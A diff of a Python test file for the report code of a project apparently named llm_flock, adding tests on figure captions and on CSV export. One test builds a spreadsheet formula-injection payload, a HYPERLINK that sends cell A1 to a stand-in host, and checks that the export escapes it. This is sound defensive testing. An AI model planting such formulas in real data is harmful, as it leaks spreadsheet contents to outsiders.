@@ -24,7 +24,7 @@ from llm_flock.report.findings import ERROR, cell_lines, pair_lines, usual_refer
 from llm_flock.report.gallery import gallery, worst
 from llm_flock.report.page import inline_svg, write_report
 from llm_flock.report.results import OUTCOMES, Results
-from llm_flock.report.sheets import interval, success_sheet
+from llm_flock.report.sheets import facts, interval, success_sheet
 
 
 @pytest.fixture(scope="module")
@@ -104,11 +104,20 @@ def test_numbers_in_words() -> None:
 def test_figures_of_everything_that_was_measured(results: Results) -> None:
     captions = {drawing.name: drawing.caption for drawing in draw_all(results, "baseline", "bootstrap")}
     assert list(captions) == [
-        "success", "error-by-model", "error-by-protocol", "paired-success", "paired-error", "rounds-over-bound",
+        "success", "error-by-protocol", "paired-success", "paired-error", "rounds-over-bound",
         "separation", "calls", "tokens", "cost",
     ]  # fmt: skip
-    assert "2 of 36 trials have no error" in captions["error-by-model"]
+    assert "2 of 36 trials have no error" in captions["error-by-protocol"]
     assert "bootstrap" in captions["calls"] and "baseline: without consensus" in captions["error-by-protocol"]
+
+
+def test_no_success_is_pooled_over_protocols_and_rows_of_dots_are_named(results: Results) -> None:
+    shown = {name: value for value, name in facts(results, [])}
+    assert shown["trials"] == "36" and "formed with flock" in shown and "formed with baseline" in shown
+    assert not [name for name in shown if "%" in name or "too near" in name]
+    drawing = next(drawing for drawing in draw_all(results, "baseline") if drawing.name == "success")
+    labels = [label.get_text() for label in drawing.figure.axes[0].get_yticklabels()]
+    assert labels == list(results.protocols)
 
 
 @pytest.mark.parametrize(("values", "comm_rounds"), [(("0.1", "0.3"), False), (("none", "loss"), True)])
@@ -233,6 +242,20 @@ def test_csv_holds_the_same_tables(results: Results, tmp_path: Path) -> None:
     assert [row["trial"] for row in rows] == tables.read_trials(results.folder)["trial"].to_list()
     again = pl.read_csv(rounds, schema=tables.read_rounds(results.folder).schema)
     assert again.equals(tables.read_rounds(results.folder))
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
+def test_no_text_of_csv_tables_begins_as_a_formula(begins: str, tmp_path: Path) -> None:
+    evil = begins + 'HYPERLINK("http://elsewhere.invalid/?"&A1,"click")'
+    Store(tmp_path).save(
+        trial("circle", 10, "flock", 0, cell=evil, error=evil, axes={"mine": evil}, code=evil, record=None)
+    )
+    path, _ = tables.export_csv(tmp_path, tmp_path)
+    with path.open(newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert {row[name] for name in ("cell", "error", "axis_mine", "code")} == {f"'{evil}"}
+    assert not [text for text in row.values() if text[:1] == begins]
+    assert tables.read_trials(tmp_path)["cell"].to_list() == [evil], "the tables of the sweep are left as they are"
 
 
 def test_every_figure_of_simulated_models_says_so(tmp_path: Path) -> None:
